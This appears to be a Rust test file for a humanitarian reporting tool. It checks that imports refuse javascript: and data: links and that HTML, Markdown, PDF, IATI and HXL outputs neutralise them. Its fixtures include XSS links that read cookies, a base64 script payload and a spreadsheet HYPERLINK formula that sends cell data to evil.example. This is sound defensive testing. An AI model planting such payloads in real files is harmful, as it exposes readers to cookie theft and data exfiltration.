//! Nothing unsafe leaves through an output: `javascript:` and `data:` links are refused where they come
//! in (the workbook import, narrative in a dataset folder) and, when a store already holds them, no
//! output makes a link of them (public pages, the HTML, Markdown and PDF brief, IATI); text that a
//! spreadsheet would run as a formula is neutralised in the public HXL file, which libhxl still reads.

use crate::server;

use crate::common::*;

const CSV_HEADER: &str = "organisation,period,indicator,statement,unit,kind,disaggregations,indicator places,value,part:children,place 1,place 2,co-reporting 1,note,evidence\n";

#[test]
fn a_script_link_in_an_imported_workbook_is_refused_with_its_line_and_column() {
    let s = Sandbox::with_open_2023();
    let before = s.ok(&["export", "--period", "2023", "--format", "json"]);
    for link in [
        "javascript:alert(document.cookie)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "JAVASCRIPT:alert(1)",
    ] {
        std::fs::write(
            s.path("iom-2023.csv"),
            format!("{CSV_HEADER}IOM,2023,P1.O1.I02,,,count,,,120,,,,,,{link}\n"),
        )
        .unwrap();
        let err = s.fails(&["import", "iom-2023.csv"]);
        assert!(err.contains("line 2, column `evidence`"), "{err}");
        assert!(err.contains(&link[..12]), "{err}");
        assert!(err.contains("https://"), "{err}");
        assert!(err.contains("nothing was written"), "{err}");
    }
    assert_eq!(
        s.ok(&["export", "--period", "2023", "--format", "json"]),
        before
    );
    // A web or mail link goes through.
    std::fs::write(
        s.path("iom-2023.csv"),
        format!("{CSV_HEADER}IOM,2023,P1.O1.I02,,,count,,,120,,,,,,mailto:focal@iom.int\n"),
    )
    .unwrap();
    s.ok(&["import", "iom-2023.csv"]);
}

#[test]
fn a_script_link_in_narrative_is_refused_with_its_file_line_and_field() {
    let s = Sandbox::new();
    let data = s.path("data");
    copy_dir(&example(), &data);
    let p = data.join("periods/2022/highlights.toml");
    let text = std::fs::read_to_string(&p).unwrap();
    let text = text.replacen(
        "psychological first aid (PFA) services",
        "psychological first aid ([PFA](javascript:alert(1))) services",
        1,
    );
    std::fs::write(&p, text).unwrap();
    let err = s.fails(&["load", data.to_str().unwrap()]);
    assert!(err.contains("highlights.toml"), "{err}");
    assert!(err.contains("text"), "{err}");
    assert!(err.contains("bad link"), "{err}");
    assert!(err.contains("javascript:alert(1"), "{err}");
}

/// A store that holds unsafe links and formula-like text from before the rules: written with the
/// store's own API, as no reader of files lets them in any more.
fn store_with_unsafe_links() -> Sandbox {
    let s = Sandbox::loaded();
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let app = mignet_app::App::open(&s.db()).await.unwrap();
        let mut ds = (*app.dataset().await.unwrap()).clone();
        let p = ds
            .periods
            .iter_mut()
            .find(|p| p.period.code.as_str() == "2022")
            .unwrap();
        let f = p
            .figures
            .iter_mut()
            .find(|f| f.id.as_str() == "F-PFA")
            .unwrap();
        f.evidence = Some("javascript:alert(document.cookie)".into());
        f.note = Some("=HYPERLINK(\"https://evil.example/?\"&A1,\"details\")".into());
        let line = p
            .lines
            .iter_mut()
            .find(|l| l.figures.iter().any(|x| x.as_str() == "F-PFA"))
            .unwrap();
        line.text
            .push_str(" See [the report](javascript:alert(1)) and [the data](data:text/html,x).");
        app.store().save_dataset(&ds, "test").await.unwrap();
    });
    s
}

fn assert_no_unsafe_href(what: &str, doc: &str) {
    let lower = doc.to_ascii_lowercase().replace(['\'', ' '], "\"");
    for bad in [
        "href=\"javascript:",
        "href=\"data:",
        "](javascript:",
        "](data:",
    ] {
        assert!(!lower.contains(bad), "{what} links to {bad}:\n{doc}");
    }
}

#[test]
fn links_already_in_a_store_come_out_as_text_never_as_links() {
    let s = store_with_unsafe_links();
    let srv = server::serve(&s.db());
    for path in ["/figures/2022/F-PFA", "/highlights/2022", "/"] {
        let a = srv.get(path, &[]);
        assert_eq!(a.status, 200, "{path}");
        assert_no_unsafe_href(path, &a.text());
    }
    let page = srv.get("/figures/2022/F-PFA", &[]).text();
    assert!(
        page.contains("javascript:alert(document.cookie)"),
        "the evidence is printed as text: {page}"
    );

    // The HTML brief forbids scripts of its own accord, wherever it is opened.
    let html = s.ok(&["report", "--period", "2022", "--format", "html"]);
    assert_no_unsafe_href("the HTML brief", &html);
    assert!(html.contains("the report"), "the link's label stays");
    let csp = html
        .split("http-equiv=\"Content-Security-Policy\" content=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .expect("the HTML brief has a Content-Security-Policy");
    assert!(csp.contains("default-src 'none'"), "{csp}");
    assert!(!csp.contains("script-src"), "{csp}");

    let md = s.ok(&["report", "--period", "2022", "--format", "md"]);
    assert_no_unsafe_href("the Markdown brief", &md);

    // The PDF's link actions.
    let pdf = s.ok_to(
        &["report", "--period", "2022", "--format", "pdf"],
        "brief.pdf",
    );
    let bytes = std::fs::read(&pdf).unwrap();
    let raw = String::from_utf8_lossy(&bytes).to_ascii_lowercase();
    assert!(!raw.contains("javascript"), "the PDF holds a script link");
    assert!(!raw.contains("(data:"), "the PDF holds a data link");

    // IATI: still valid, and no script address.
    let xml = s.ok_to(
        &["export", "--period", "2022", "--format", "iati"],
        "2022-iati.xml",
    );
    assert_valid_iati(&xml);
    let text = std::fs::read_to_string(&xml).unwrap().to_ascii_lowercase();
    assert!(
        !text.contains("javascript:"),
        "IATI carries the script link"
    );

    // `mignet check` points the coordinator at the stored links to fix.
    let out = s.mignet(&["check", "--period", "2022", "--json"]);
    assert!(!out.status.success(), "an unsafe link is an error finding");
    let findings: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let unsafe_links: Vec<_> = findings
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "unsafe_link")
        .collect();
    // The figure's evidence (the figure rules of mignet_core::rules) and the line's two links.
    assert_eq!(unsafe_links.len(), 3, "{findings:#}");
    let says = |subject: &str, words: &str| {
        unsafe_links
            .iter()
            .any(|f| f["subject"] == subject && f["message"].as_str().unwrap().contains(words))
    };
    assert!(
        says("figure F-PFA", "javascript:alert(document.cookie)"),
        "{findings:#}"
    );
    assert!(
        says("line 2 of the highlights", "javascript:alert(1"),
        "{findings:#}"
    );
}

#[test]
fn formula_text_in_the_public_hxl_file_is_neutralised_and_libhxl_still_reads_it() {
    let s = store_with_unsafe_links();
    let csv = s.path("2022.hxl.csv");
    s.ok(&[
        "export",
        "--period",
        "2022",
        "--format",
        "hxl",
        "-o",
        csv.to_str().unwrap(),
    ]);
    let read = python_json(
        r##"
import json, sys, hxl
data = hxl.data(sys.argv[1], hxl.InputOptions(allow_local=True))
rows = {row.get("#meta+id"): {"note": row.get("#description+note"), "value": row.get("#indicator+value+num")} for row in data}
print(json.dumps(rows))
"##,
        &[&csv],
    );
    let note = read["F-PFA"]["note"].as_str().unwrap();
    assert!(note.starts_with("'="), "{note}");
    assert_eq!(read["F-PFA"]["value"], "4805", "numbers stay numbers");
    // No cell of any row starts a formula.
    let text = std::fs::read_to_string(&csv).unwrap();
    let mut reader = text.lines().skip(2);
    assert!(
        reader.all(|l| !l.contains(",=") && !l.contains(",\"=")),
        "{text}"
    );
}
